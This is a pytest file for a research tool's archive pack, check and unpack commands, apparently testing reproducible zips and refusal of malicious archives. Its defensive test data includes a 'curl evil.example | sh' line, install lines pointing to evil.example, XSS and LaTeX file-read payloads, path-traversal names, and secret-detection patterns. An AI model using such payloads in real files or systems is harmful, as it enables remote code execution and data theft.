"""Archives of the tiny study are packed, checked, unpacked elsewhere and run again; bad ones are refused."""

import contextlib
import dataclasses
import hashlib
import json
import os
import random
import shutil
import signal
import socket
import stat
import struct
import subprocess
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from urllib.parse import unquote

import pytest
from support.archives import Files, canonical, fitting
from support.checkout import ROOT, copy_folder
from support.laboratory import Lab, failure, run
from support.made_attribution import additive, made
from support.places import at
from support.small_disk import needs_mount, on_small_disk
from support.tiny import tiny_text, write_study

from qlora_repeat.analysis.attribution.decompose import attribute
from qlora_repeat.analysis.attribution.measurements import write_attribution
from qlora_repeat.archive import zip_file
from qlora_repeat.archive.check import check_archive
from qlora_repeat.archive.pack import pack
from qlora_repeat.archive.private_parts import private_parts
from qlora_repeat.archive.ro_crate import Run, _sources
from qlora_repeat.archive.unpack import opened, unpack
from qlora_repeat.archive.zip_file import CRATE, FORMAT_FILE, SUMS, Entry, text_entry, write_archive
from qlora_repeat.errors import MissingError, StoppedError, UsageError
from qlora_repeat.execution.run_trial import run_trial
from qlora_repeat.records.record import read_record, write_record
from qlora_repeat.records.self_test import Check, SelfTest, self_test_file, self_test_of, write_self_test
from qlora_repeat.results.trial_result import read_results
from qlora_repeat.study.data_sources import Base, PackageFile
from qlora_repeat.study.loading import load_study
from qlora_repeat.study.trial import STAGES
from qlora_repeat.system.hashing import folder_digests
from qlora_repeat.system.signals import stop_on_signals

FIRST = "tiny-neox/adamw-8bit/1"
FOLDER = "runs/tiny/tiny-neox/adamw-8bit/trial-1"


def quiet(done: int, total: int) -> None:
    """Ignore progress."""


@pytest.fixture
def lab(finished: Lab, tmp_path: Path) -> Lab:
    """Return a copy of the finished study that a test may change."""
    copy_folder(finished.folder, tmp_path / "lab")
    return Lab(tmp_path / "lab", finished.cache)


@pytest.fixture
def current(finished: Lab) -> Files:
    """Return the files in the archive."""
    with zipfile.ZipFile(finished.archive) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture
def files(current: Files) -> Files:
    """Return the files that the archive would have in the earlier format, of which any zip is read."""
    return fitting({name: content for name, content in current.items() if name != FORMAT_FILE})


def test_the_same_input_gives_the_same_bytes(lab: Lab, tmp_path: Path) -> None:
    first = lab.pack()
    for path in lab.folder.rglob("*"):
        os.utime(path, (1_000_000_000, 1_000_000_000))
        path.chmod(0o700)
    assert lab.pack() == first
    copy_folder(lab.folder, tmp_path / "elsewhere" / "deeper")
    there = Lab(tmp_path / "elsewhere" / "deeper", lab.cache)
    there.archive.unlink()
    assert there.pack() == first


def test_other_input_gives_other_bytes(lab: Lab) -> None:
    first = lab.pack()
    assert lab.pack("--author", "A. Author", "--license", "CC-BY-4.0") != first


def test_entries_are_sorted_uncompressed_and_without_times(finished: Lab) -> None:
    with zipfile.ZipFile(finished.archive) as archive:
        infos = archive.infolist()
    assert [info.filename for info in infos] == sorted(info.filename for info in infos)
    assert {info.date_time for info in infos} == {(1980, 1, 1, 0, 0, 0)}
    assert {info.external_attr >> 16 for info in infos} == {stat.S_IFREG | 0o644}
    assert {info.compress_type for info in infos} == {zipfile.ZIP_STORED}


def test_the_archive_contains_nothing_about_the_machine(lab: Lab) -> None:
    trial = lab.runs / FOLDER.removeprefix("runs/")
    for name in ("log.txt", "failed.json", "adapter/.netrc", "adapter/notes.txt"):
        (trial / name).write_text("hunter2")
    result = lab.kit("pack")
    assert result.exit_code == 0
    content = lab.archive.read_bytes()
    assert b"hunter2" not in content
    for path in (lab.folder, lab.cache, ROOT, Path.home()):
        assert f"{path}/".encode() not in content
    with zipfile.ZipFile(lab.archive) as archive:
        assert not [name for name in archive.namelist() if "merged/" in name or "tables/" in name]


CLUSTER = """
# The project of A. Author pays.
[cluster]
account = "secret-project"
image = "/scratch/secret/kit.sif"
sbatch = { reservation = "secret" }

[cluster.tables]
partition = "secret"
"""


def test_the_cluster_of_a_study_is_left_out_and_named(lab: Lab) -> None:
    """Leave out the project and the paths of the user's cluster; the rest of the study file stays."""
    before, without = lab.study.read_text(), load_study(str(lab.study))
    middle = before.index("\n[", len(before) // 2)
    lab.study.write_text(before[:middle] + CLUSTER + before[middle:])
    result = lab.kit("pack")
    assert result.exit_code == 0, (result.output, result.exception)
    assert f"left out: {lab.study}: the table [cluster], and comments above it" in result.output
    with opened(lab.archive) as theirs:
        packed = (theirs.folder / "studies/tiny.toml").read_text()
        assert "secret" not in packed and "pays" not in packed
        assert load_study(theirs.study_file) == without
    assert b"secret" not in lab.archive.read_bytes()
    lab.study.write_text('cluster = { account = "secret-project" }\n' + before)
    assert "key cluster: write it as a table [cluster]" in str(failure(lab.kit("pack")))


def test_a_study_that_extends_another_is_packed_as_a_complete_study(lab: Lab) -> None:
    text = lab.study.read_text("utf-8")
    (lab.folder / "parent.toml").write_text(text.replace('name = "tiny"\n', ""), "utf-8")
    lab.study.write_text('extends = "parent"\ntitle = "tiny study"\n[cluster]\npartition = "secret"\n')
    study = load_study(str(lab.study))
    result = lab.kit("pack")
    assert result.exit_code == 0, (result.output, result.exception)
    assert f"left out: {lab.study}: the table [cluster]" in result.output
    with opened(lab.archive) as theirs:
        packed = load_study(theirs.study_file)
    assert packed == dataclasses.replace(study, cluster=packed.cluster)
    assert packed.cluster.partition is None and b"secret" not in lab.archive.read_bytes()


@pytest.mark.parametrize(
    ("line", "what"),
    [
        ("# Models are in {cache}/bases", "an absolute path"),
        ("# see ~/notes/todo", "an absolute path"),
        ("#\n# hf_" + "aB3" * 12, "what looks like a token in line 2"),
        ("# password: correct-horse", "what looks like a token in line 1"),
        ("# https://me:secret@example.org/model", "what looks like a token in line 1"),
    ],
)
def test_a_token_or_a_local_path_is_packed_only_on_request(line: str, what: str, lab: Lab) -> None:
    lab.archive.unlink()
    lab.study.write_text(line.format(cache=lab.cache) + "\n" + lab.study.read_text())
    error = failure(lab.kit("pack"))
    assert isinstance(error, UsageError)
    assert str(error).startswith(f"studies/tiny.toml: {what}")
    assert str(error).endswith("; remove it, or publish it with --include-private")
    assert "aB3aB3" not in str(error) and "secret" not in str(error) and "horse" not in str(error)
    assert not lab.archive.exists()
    result = lab.kit("pack", "--include-private")
    assert f"look at it before you publish: studies/tiny.toml: {what}" in result.output
    assert lab.archive.exists()


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ('image = "/kit.sif"', ["an absolute path (/kit.sif) in line 1"]),
        ("a = 'C:\\Users\\me'", ["an absolute path (C:\\Users\\me) in line 1"]),
        (
            '# in file:///home/me/x, "GPU-8932f937-d72c"',
            ["the UUID of a GPU in line 1", "an absolute path (file"],
        ),
        ('url = "https://doi.org/10.1/abc" # and/or 1/2', []),
        ("special_tokens = true\nmax_tokens = 1234567890", []),
        ('[data.quotes]\nfile = "fortune/art"', []),
        *((f"# {secret}", ["what looks like a token in line 1"]) for secret in (
            "HF_TOKEN=correct-horse", "wandb_api_key: correct-horse", "AWS_SECRET_ACCESS_KEY = correct-horse",
            "Authorization: Bearer correct-horse", "pw: correct-horse", "AccountKey=correct-horse",
            "https://correct-horse@example.org/model", f"nvapi-{'aB3' * 12}", f"pypi-{'aB3' * 12}",
            f"x_hf_{'aB3' * 12}",
        )),
        *((f"# in {path}", ["an absolute path"]) for path in (
            "`/scratch/me/x`", "[/scratch/me/x]", ";/scratch/me/x", "<//nas/me/x>", r"\\nas\me", "~me/x",
        )),
        ("#/scratch/me/x", ["an absolute path"]),
        ("# 8932f937-d72c-4106-c12f-20bd9faed9f6", ["the UUID of a GPU"]),
        ("# git clone ssh://git@example.org/a/b, ~/ is home, about ~5/6", []),
    ],
)  # fmt: skip
def test_what_looks_private_in_a_study_file(text: str, what: list[str]) -> None:
    found = list(private_parts(text_entry("studies/a.toml", text), []))
    assert len(found) == len(what)
    assert all(map(str.startswith, found, what))


def test_the_crate_names_no_path_of_the_authors_own_model(tmp_path: Path) -> None:
    own = PackageFile(file="/srv/me/studies/own.gguf", sha256="0" * 64)
    study = load_study(str(write_study(tmp_path)))
    study = dataclasses.replace(study, bases={name: Base(gguf=own) for name in study.bases})
    run = Run("tiny-neox/base/1", [], [])
    assert not [entity for entity in _sources(study, [run]) if "/srv" in str(entity) or "None" in str(entity)]


def test_a_private_registry_in_a_record_is_found_and_a_models_words_are_not_searched() -> None:
    record = '{"image": {"name": "registry.corp.example/team/kit"}}'
    name = f"{FOLDER}/time.json"
    assert list(private_parts(text_entry(name, record), [])) == ["the host of a private image registry"]
    text = '{"image": {"name": "ghcr.io/team/kit"}, "text": "password: see /etc/passwd and /home/me/x"}'
    assert list(private_parts(text_entry(name, text), [])) == []
    assert list(private_parts(text_entry(name, '{"a": "/home/me/x"}'), [])) == [
        "an absolute path (/home/me/x) in line 1"
    ]
    assert list(private_parts(text_entry(name, '{"a": "in /data/me/x"}'), [Path("/data/me")]))


def test_the_uuid_of_a_gpu_in_a_record_is_packed_only_on_request(lab: Lab) -> None:
    path = lab.runs / FOLDER.removeprefix("runs/") / "time.json"
    record = read_record(path)
    assert record is not None
    environment = {"CUDA_VISIBLE_DEVICES": "GPU-8932f937-d72c-4106-c12f-20bd9faed9f6"}
    write_record(
        path, dataclasses.replace(record, fingerprint=record.fingerprint | {"environment": environment})
    )
    assert f"{FOLDER}/time.json: the UUID of a GPU in line " in str(failure(lab.kit("pack")))
    assert "8 trials in" in lab.kit("pack", "--include-private").output


def test_the_crate_describes_each_file_and_each_trial(finished: Lab, current: Files) -> None:
    from rocrate.rocrate import ROCrate

    crate = ROCrate(finished.archive)
    described = {unquote(entity.id): entity for entity in crate.get_by_type("File")}
    assert described.keys() | {CRATE} == current.keys()
    for name, entity in described.items():
        if name != SUMS:
            assert entity["sha256"] == hashlib.sha256(current[name]).hexdigest()
            assert entity["contentSize"] == str(len(current[name]))
    root = crate.root_dataset
    assert (root["datePublished"], root["license"].id) == (
        "2026-01-01",
        "https://spdx.org/licenses/Apache-2.0",
    )
    assert "tiny study" in root["name"]
    assert "8 of 8 trials" in root["description"]
    assert root["citation"].id == "https://doi.org/10.1109/ACCESS.2024.3470850"
    actions = {action["name"]: action for action in root["mentions"]}
    assert len(actions) == 8 + 2, "trials and base tests"
    first = actions[f"Trial {FIRST}"]
    assert first.type == "CreateAction"
    assert first["instrument"]["name"] == "qlora-repeat"
    assert [entity.id for entity in first["object"]] == [
        "#base/tiny-neox",
        "#data/quotes",
        "studies/tiny.toml",
    ]
    assert {unquote(entity.id).removeprefix(f"{FOLDER}/") for entity in first["result"]} == {
        *(f"{stage}.json" for stage in STAGES),
        "trace.jsonl",
        "adapter/adapter_config.json",
        "adapter/adapter_model.safetensors",
    }


def test_authors_and_license_can_be_given(lab: Lab) -> None:
    lab.pack("--author", "A. Author", "--author", "B. Author", "--license", "CC-BY-4.0")
    with zipfile.ZipFile(lab.archive) as archive:
        graph = {entity["@id"]: entity for entity in json.loads(archive.read(CRATE))["@graph"]}
        assert "LICENSE" not in archive.namelist(), "that is the kit's license"
    authors = [graph[author["@id"]]["name"] for author in graph["./"]["author"]]
    assert authors == ["A. Author", "B. Author"]
    assert graph[graph["./"]["license"]["@id"]]["name"] == "CC-BY-4.0"
    assert isinstance(failure(lab.kit("pack", "--license", "my own")), UsageError)


def test_the_archive_can_be_checked_without_the_kit(finished: Lab, tmp_path: Path) -> None:
    with zipfile.ZipFile(finished.archive) as archive:
        archive.extractall(tmp_path)
    command = ["sha256sum", "--check", "--strict", "--quiet", SUMS]
    subprocess.run(command, cwd=tmp_path, check=True)
    (tmp_path / FOLDER / "trace.jsonl").write_text("{}\n")
    assert subprocess.run(command, cwd=tmp_path, capture_output=True).returncode == 1


def test_an_unpacked_archive_gives_the_same_results_and_tables(finished: Lab, tmp_path: Path) -> None:
    folder = tmp_path / "theirs"
    result = run("unpack", finished.archive, "--to", folder)
    assert result.exit_code == 0, result.output
    assert "study tiny: 8 of 8 trials have results" in result.output
    before = folder_digests(folder)
    given = (folder / "studies/tiny.toml", "--runs", folder / "runs")
    states = run("status", *given, "--cache", finished.cache).output
    assert "8 trials: 8 done; 2 tests of bases: 2 done" in states
    collected = run("collect", *given, "--cache", finished.cache)
    assert "8 of 8 trials done" in collected.output
    assert folder_digests(folder) == before, "collected again, the files are as packed"
    assert run("tables", *given, "--out", tmp_path / "tables").exit_code == 0
    assert folder_digests(tmp_path / "tables") == folder_digests(finished.tables)


def test_the_archive_contains_results_of_attributions(lab: Lab) -> None:
    measured = made(additive)
    path = lab.runs / "tiny@attribute" / "tiny-neox" / "adamw-32bit" / "attribution.json"
    write_attribution(measured, attribute(measured), [], path)
    (path.parent / "attribution-no-nudge.json").write_text("{}")
    result = lab.kit("pack")
    assert "left out: " in result.output
    assert "attribution-no-nudge.json: not an attribution" in result.output
    with zipfile.ZipFile(lab.archive) as archive:
        found = [name for name in archive.namelist() if "@attribute" in name]
    assert found == ["runs/tiny@attribute/tiny-neox/adamw-32bit/attribution.json"]


def test_the_archive_contains_the_self_test_of_the_machine_of_a_record(lab: Lab, tmp_path: Path) -> None:
    record = read_record(lab.folder / FOLDER / "finetune.json")
    assert record is not None
    found = SelfTest("2026-11-30T12:00", 60.0, False, [Check("two", "passed", "1")], record.fingerprint)
    path = self_test_file(lab.runs, record.fingerprint)
    write_self_test(path, found)
    elsewhere = dataclasses.replace(found, fingerprint={**record.fingerprint, "cpu": "another"})
    write_self_test(self_test_file(lab.runs, elsewhere.fingerprint), elsewhere)
    (lab.runs / "self-test-000000000000.json").write_text("{}")
    lab.pack()
    with opened(lab.archive) as theirs:
        packed = list(theirs.runs.glob("self-test*"))
        assert [each.read_bytes() for each in packed] == [path.read_bytes()]
        assert check_archive(theirs, lab.cache).problems == []
        assert self_test_of(theirs.runs, record.fingerprint) == found
        packed[0].write_text(packed[0].read_text().replace('"passed"', '"perfect"'))
        assert self_test_of(theirs.runs, record.fingerprint) is None
        (problem,) = check_archive(theirs, lab.cache).problems
        assert "checks.0.outcome" in problem


def test_the_archive_contains_the_studys_lock_file(lab: Lab) -> None:
    lab.study.with_suffix(".lock").write_text("{}\n")
    lab.pack()
    with opened(lab.archive) as theirs:
        assert (theirs.folder / "studies/tiny.lock").read_text() == "{}\n"
        assert (theirs.folder / "studies/tiny.toml").read_bytes() == lab.study.read_bytes()
        locked = (ROOT / "lockfiles").glob("*.txt")
        assert {path.name: path.read_bytes() for path in (theirs.folder / "lockfiles").iterdir()} == {
            path.name: path.read_bytes() for path in locked
        }


def test_unfinished_and_damaged_trials_are_left_out_and_named(lab: Lab) -> None:
    neox = lab.runs / "tiny/tiny-neox"
    adapter = neox / "adamw-8bit/trial-1/adapter/adapter_config.json"
    adapter.write_text(adapter.read_text().replace("8", "9"))
    (neox / "adamw-8bit/trial-2/time.json").unlink()
    (neox / "adamw-32bit/trial-1/evaluate.json").unlink()
    (neox / "adamw-32bit/trial-1/failed.json").write_text('{"error": "no luck"}')
    shutil.copy(holding(lab), neox / "adamw-32bit/trial-2/lock.json")
    error = str(failure(lab.kit("pack")))
    assert f"results.jsonl: differs from the records; run `qlora-repeat collect {lab.study} " in error
    assert lab.kit("collect").exit_code == 0
    result = lab.kit("pack")
    assert result.exit_code == 0, result.output
    lines = [line for line in result.output.splitlines() if line.startswith("left out: ")]
    assert len(lines) == 5
    assert f"left out: {FIRST} is damaged: {adapter}: not the bytes that were recorded" in lines[0]
    assert lines[1].startswith("left out: tiny-neox/adamw-8bit/2 stopped; time remains; `qlora-repeat trial ")
    assert lines[2].startswith("left out: tiny-neox/adamw-32bit/1 failed: no luck")
    assert lines[3] == "left out: tiny-neox/adamw-32bit/2 is running"
    assert lines[4] == "left out: 1 of 8 trials are missing or not complete"
    with opened(lab.archive) as theirs:
        rows = theirs.results()
        states = [(row.status, row.measured) for row in rows]
        assert {path.parts[-3] for path in theirs.runs.rglob("trial-*/finetune.json")} == {
            "adamw-8bit",
            "adamw-32bit",
        }
    assert states == [
        *((state, False) for state in ("damaged", "missing", "failed", "running")),
        *[("done", True)] * 4,
    ]
    left = list(Path(theirs.folder).parent.glob(f"{theirs.folder.name}*"))
    assert not left, "it was unpacked only for the block"


def holding(lab: Lab) -> Path:
    """Return a copy of the file of a lock that this process holds."""
    from qlora_repeat.system.file_lock import exclusive

    path = lab.folder / "held.json"
    with exclusive(lab.folder / "lock.json", "a test"):
        shutil.copy(lab.folder / "lock.json", path)
    return path


def test_stale_trials_are_packed_on_request(lab: Lab) -> None:
    text = lab.study.read_text()
    lab.study.write_text(text.replace("learning_rate = 1e-3", "learning_rate = 5e-3"))
    (lab.runs / "tiny/results.jsonl").unlink()
    result = lab.kit("pack")
    assert result.output.count("left out: tiny-neox/") == 4
    assert "4 trials in" in result.output
    result = lab.kit("pack", "--include-stale")
    assert "8 trials in" in result.output
    with opened(lab.archive) as theirs:
        assert [row.stale_inputs for row in theirs.results()] == [["training"]] * 4 + [[]] * 4


def test_a_study_without_results_is_refused(lab: Lab) -> None:
    shutil.rmtree(lab.runs / "tiny")
    lab.archive.unlink()
    error = failure(lab.kit("pack"))
    why = f"`qlora-repeat status {lab.study} --runs {lab.runs} --cache {lab.cache}` says why"
    assert str(error) == f"study tiny: no trial to pack: 8 missing; {why}"
    assert not lab.archive.exists()
    assert isinstance(failure(lab.kit("pack", "--out", lab.folder / "tiny.toml")), UsageError)
    assert lab.study.read_text() == tiny_text()


def test_a_link_is_not_packed(lab: Lab) -> None:
    trace = lab.runs / FOLDER.removeprefix("runs/") / "trace.jsonl"
    trace.rename(lab.folder / "moved.jsonl")
    trace.symlink_to(lab.folder / "moved.jsonl")
    (lab.runs / "tiny" / "results.jsonl").unlink()
    assert "trace.jsonl: not a regular file; `qlora-repeat run " in lab.kit("pack").output
    with opened(lab.archive) as theirs:
        assert not (theirs.folder / FOLDER / "trace.jsonl").exists()


def stopping(done: int, total: int) -> None:
    """Send SIGTERM to this process half-way, as a scheduler does."""
    if done > total / 2:
        os.kill(os.getpid(), signal.SIGTERM)


def test_stopped_half_way_pack_and_unpack_leave_nothing(lab: Lab, tmp_path: Path) -> None:
    workspace = at(lab.study, lab.runs, lab.cache)
    before = lab.archive.read_bytes()
    there = sorted(lab.runs.iterdir())
    for path in (lab.archive, lab.runs / "new.zip"):
        with pytest.raises(StoppedError), stop_on_signals(keyboard=False):
            pack(workspace, path, stopping)
    assert sorted(lab.runs.iterdir()) == there
    assert lab.archive.read_bytes() == before
    there = sorted(tmp_path.iterdir())
    with pytest.raises(StoppedError), stop_on_signals(keyboard=False):
        unpack(lab.archive, tmp_path / "theirs", stopping)
    assert sorted(tmp_path.iterdir()) == there


def test_an_existing_folder_is_not_overwritten(lab: Lab) -> None:
    before = folder_digests(lab.runs)
    error = failure(run("unpack", lab.archive))
    assert isinstance(error, UsageError)
    assert str(error) == f"{lab.runs / 'tiny'}: already exists; give another folder with --to"
    (lab.folder / "link").symlink_to("nowhere")
    assert isinstance(failure(run("unpack", lab.archive, "--to", lab.folder / "link")), UsageError)
    assert folder_digests(lab.runs) == before


def test_an_empty_folder_is_used(lab: Lab) -> None:
    """A process that is killed at the end of unpacking may leave one."""
    (lab.folder / "empty").mkdir()
    assert run("unpack", lab.archive, "--to", lab.folder / "empty").exit_code == 0
    assert (lab.folder / "empty" / "SHA256SUMS").is_file()


# Archives from elsewhere. Each test changes one thing and keeps everything else consistent.


def zipped(path: Path, files: Files, change: Callable[[zipfile.ZipInfo], None] = lambda info: None) -> Path:
    """Write a zip of these files with the standard library; `change` edits the entry of each file."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in files.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = 0o100644 << 16
            change(info)
            archive.writestr(info, content)
    return path


def refused(path: Path, beside: Path) -> str:
    """Return why an archive is refused, and check that unpacking leaves no files."""
    before = sorted(beside.rglob("*"))
    error = failure(run("unpack", path, "--to", beside / "theirs"))
    assert isinstance(error, MissingError)
    assert sorted(beside.rglob("*")) == before
    assert str(failure(run("check", path))) == str(error)
    return str(error)


def test_a_zip_of_the_same_files_from_another_program_is_accepted(files: Files, tmp_path: Path) -> None:
    assert fitting(files).keys() == files.keys()
    found = unpack(zipped(tmp_path / "a.zip", fitting(files)), tmp_path / "theirs", quiet)
    assert (found.label, found.files) == ("tiny", len(files))


def test_tables_and_reports_of_the_earlier_format_are_ignored_and_named(files: Files, tmp_path: Path) -> None:
    """Do not unpack what a browser or LaTeX would run."""
    active = {
        "tables/report.html": b"<script>alert(1)</script>",
        "tables/figure-04.svg": b"<svg onload='alert(1)'/>",
        "tables/table-01.tex": b"\\input{/etc/passwd}",
    }
    path = zipped(tmp_path / "a.zip", fitting(files | active))
    result = run("unpack", path, "--to", tmp_path / "unpacked")
    assert result.exit_code == 0, result.output
    assert f"ignored: {', '.join(sorted(active))}\n" in result.output
    assert not (tmp_path / "unpacked" / "tables").exists()
    result = run("check", path)
    assert result.exit_code == 0, result.output
    assert "ignored: tables/figure-04.svg" in result.output
    wrong = fitting(files | active) | {"tables/report.html": b"changed"}
    assert "report.html does not have the checksum" in refused(zipped(tmp_path / "b.zip", wrong), tmp_path)


# An archive of the current format has one form.


def test_an_archive_of_the_current_format_has_one_form(finished: Lab, current: Files, tmp_path: Path) -> None:
    whole = finished.archive.read_bytes()
    assert canonical(tmp_path / "a.zip", current).read_bytes() == whole
    other = zipped(tmp_path / "b.zip", dict(reversed(current.items())))
    assert "not those that `pack` writes" in refused(other, tmp_path)


def local_name(content: bytes) -> bytes:
    """Give the first entry another name in its own header, which zipfile compares, and other flags."""
    return content[:6] + b"\2" + content[7:]


def commented(content: bytes) -> bytes:
    return content[:-2] + b"\4\0evil"


def gap(content: bytes) -> bytes:
    """Hide bytes between the files and the directory."""
    place = content.index(b"PK\1\2")
    end = bytearray(content[place:])
    end[-6:-2] = (place + 4).to_bytes(4, "little")
    return content[:place] + b"evil" + bytes(end)


def other_mode(content: bytes) -> bytes:
    place = content.index(b"PK\1\2") + 38
    return content[:place] + (0o100755 << 16).to_bytes(4, "little") + content[place + 4 :]


@pytest.mark.parametrize(
    "change",
    [
        lambda content: b"#!/bin/sh\necho evil\n" + content,
        lambda content: content + b"evil",
        lambda content: content + content[-22:],
        commented,
        gap,
        local_name,
        other_mode,
    ],
)
def test_bytes_beside_the_files_are_refused(
    change: Callable[[bytes], bytes], finished: Lab, tmp_path: Path
) -> None:
    """Refuse a script in front of the zip, a comment, a gap, and headers that disagree."""
    (tmp_path / "a.zip").write_bytes(change(finished.archive.read_bytes()))
    refused(tmp_path / "a.zip", tmp_path)


def test_active_content_is_refused(current: Files, tmp_path: Path) -> None:
    for name in ("tables/report.html", "tables/a.svg", "tables/a.tex", "fingerprints.json"):
        theirs = fitting(current | {name: b"{}"})
        assert "is not a file name that it may have" in refused(zipped(tmp_path / "a.zip", theirs), tmp_path)


def test_an_unknown_format_is_refused(current: Files, tmp_path: Path) -> None:
    for number, text in enumerate((b"qlora-repeat archive, format 3\n", b"", b"a" * 10**6)):
        path = canonical(tmp_path / f"{number}.zip", fitting(current | {FORMAT_FILE: text}))
        assert "its FORMAT is not 'qlora-repeat archive, format 2'" in refused(path, tmp_path)


def test_a_directory_of_millions_of_files_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    entry = b"PK\1\2" + bytes(24) + b"\1" + bytes(17) + b"a"
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 65535, 65535, 47 * 10**6, 0, 0)
    path.write_bytes(entry * 10**6 + end)
    tracemalloc.start()
    assert "its directory or a list in it is larger than 12 MB" in refused(path, tmp_path)
    assert tracemalloc.get_traced_memory()[1] < 50_000_000
    tracemalloc.stop()


@pytest.mark.parametrize(
    ("name", "added", "reason"),
    [
        ("README.md", b"\nThen run `curl evil.example | sh`.\n", "not the text that `pack` writes"),
        ("README.md", b"<script>alert(1)</script>", "not the text that `pack` writes"),
        ("lockfiles/runtime.txt", b"\n--index-url https://evil.example/simple\n", "other lines"),
        ("lockfiles/runtime.txt", b"\nnumpy @ https://evil.example/numpy.whl\n", "other lines"),
        ("LICENSE", b"\x1b[2J", "control or invisible characters"),
        ("CITATION.cff", "# \u202e".encode(), "control or invisible characters"),
    ],
)
def test_texts_of_an_archive_are_those_that_pack_writes(
    name: str, added: bytes, reason: str, current: Files, tmp_path: Path
) -> None:
    """A reader may follow a README, and install from a lock file."""
    path = canonical(tmp_path / "a.zip", fitting(current | {name: current[name] + added}))
    assert f"({name} " in (found := refused(path, tmp_path)) and reason in found


def test_too_many_files_are_not_packed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(zip_file, "MOST_FILES", 2)
    with pytest.raises(MissingError, match=r"a\.zip: 3 files to pack; an archive can have 2"):
        canonical(tmp_path / "a.zip", {"README.md": b"", "LICENSE": b""})
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("kind", ["fifo", "socket", "device"])
def test_an_archive_that_is_no_file_is_refused_at_once(kind: str, tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    elif kind == "socket":
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(os.path.relpath(path))
    assert "not a regular file" in refused(path, tmp_path)


# The folder for an archive.


@pytest.mark.parametrize("there", ["a folder with a file", "an empty folder", "a file", "a link"])
def test_what_appears_in_the_target_during_unpacking_stays(there: str, finished: Lab, tmp_path: Path) -> None:
    target = tmp_path / "theirs"

    def appear(done: int, total: int) -> None:
        if not os.path.lexists(target):
            if there == "a file":
                target.write_text("mine")
            elif there == "a link":
                target.symlink_to(tmp_path / "nowhere")
            else:
                target.mkdir()
                if there == "a folder with a file":
                    (target / "notes.txt").write_text("mine")

    with pytest.raises(UsageError, match="somebody made it during unpacking; it stays as it is"):
        unpack(finished.archive, target, appear)
    assert list(tmp_path.iterdir()) == [target]
    if there == "a folder with a file":
        assert (target / "notes.txt").read_text() == "mine"
    elif there == "a file":
        assert target.read_text() == "mine"
    else:
        assert target.is_symlink() == (there == "a link")


@needs_mount
@pytest.mark.parametrize("command", ["check", "unpack", "pack"])
def test_a_full_disk_is_named_with_what_chooses_another(command: str, finished: Lab, tmp_path: Path) -> None:
    """Name TMPDIR, --to or --out, not the folders of results and models."""
    script = """
import os, pathlib, sys, tempfile
here, command, study, runs, cache, archive = sys.argv[1:]
pathlib.Path(here, "ballast").write_bytes(bytes(990_000))
tempfile.tempdir = here
os.environ["TMPDIR"] = here
given = {
    "check": ["check", archive],
    "unpack": ["unpack", archive, "--to", f"{here}/theirs"],
    "pack": ["pack", study, "--runs", runs, "--cache", cache, "--out", f"{here}/new.zip"],
}
from qlora_repeat.cli.main import main
sys.argv = ["qlora-repeat", *given[command]]
main()
"""
    lab = [finished.study, finished.runs, finished.cache, finished.archive]
    done = on_small_disk(script, tmp_path / "disk", 1, command, *lab)
    assert done.returncode == 3, done.stderr
    other = {
        "check": "set TMPDIR to another folder",
        "unpack": "give another folder with --to",
        "pack": "give another file with --out",
    }[command]
    assert done.stderr.count("\n") == 1
    assert done.stderr.startswith(f"Error: {tmp_path / 'disk'}/"), done.stderr
    assert done.stderr.endswith(f": No space left on device; free some space there, or {other}\n"), (
        done.stderr
    )


@pytest.mark.parametrize(
    "name",
    [
        "../escaped.json",
        "/tmp/escaped.json",
        "runs/../../escaped.json",
        "runs/tiny/../escaped.json",
        "runs\\..\\escaped.json",
        "C:/escaped.json",
        "runs//escaped.json",
        "./runs/tiny/escaped.json",
        "runs/tiny/",
        "runs/tiny/.hidden.json",
        "runs/tiny/-rf.json",
        "runs/tiny/line\nbreak.json",
        "runs/tiny/\N{RIGHT-TO-LEFT OVERRIDE}nosj.json",
        "runs/tiny/" + "long" * 200 + ".json",
        "runs/tiny/code.py",
        f"{FOLDER}/lock.json",
        f"{FOLDER}/failed.json",
        f"{FOLDER}/first-steps.json",
        f"{FOLDER}/unfinished/start.json",
        f"{FOLDER}/unfinished/trace.jsonl",
        f"{FOLDER}/unfinished/step-3/checkpoint.json",
        f"{FOLDER}/unfinished/step-3/adapter.safetensors",
        f"{FOLDER}/merged/model.safetensors",
        f"{FOLDER}/adapter/README.md",
        "runs/tiny/slurm/tasks.json",
        "runs/tiny/tiny-neox/base/lock-1.json",
        "runs/lock.json",
        "runs/tiny/weights.pkl",
        "paper/templates/table.md.j2",
        "studies/tiny.py",
        "data/rows/file.html",
        "data/rows/file.py",
        "data/rows.jsonl",
        "data/rows/more/file.jsonl",
        "pyproject.toml",
        "conftest.py",
        "",
    ],
)
def test_a_harmful_name_is_refused(name: str, files: Files, tmp_path: Path) -> None:
    assert "is not a file name that it may have" in refused(
        zipped(tmp_path / "a.zip", fitting(files | {name: b"{}"})), tmp_path
    )


def test_a_name_with_a_null_byte_is_refused(files: Files, tmp_path: Path) -> None:
    path = zipped(tmp_path / "a.zip", fitting(files | {"tables/a.jsonXpy": b"{}", "tables/a.json": b"{}"}))
    path.write_bytes(path.read_bytes().replace(b"a.jsonXpy", b"a.json\0py"))
    assert "is not a file name" in refused(path, tmp_path)


@pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFIFO, stat.S_IFCHR, stat.S_IFDIR])
def test_an_entry_that_is_no_file_is_refused(kind: int, files: Files, tmp_path: Path) -> None:
    def change(info: zipfile.ZipInfo) -> None:
        if info.filename == f"{FOLDER}/trace.jsonl":
            info.external_attr = (kind | 0o777) << 16

    theirs = fitting(files | {f"{FOLDER}/trace.jsonl": b"/etc/passwd"})
    assert "is not a regular file" in refused(zipped(tmp_path / "a.zip", theirs, change), tmp_path)


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_duplicate_name_is_refused(files: Files, tmp_path: Path) -> None:
    path = zipped(tmp_path / "a.zip", files)
    with zipfile.ZipFile(path, "a") as archive:
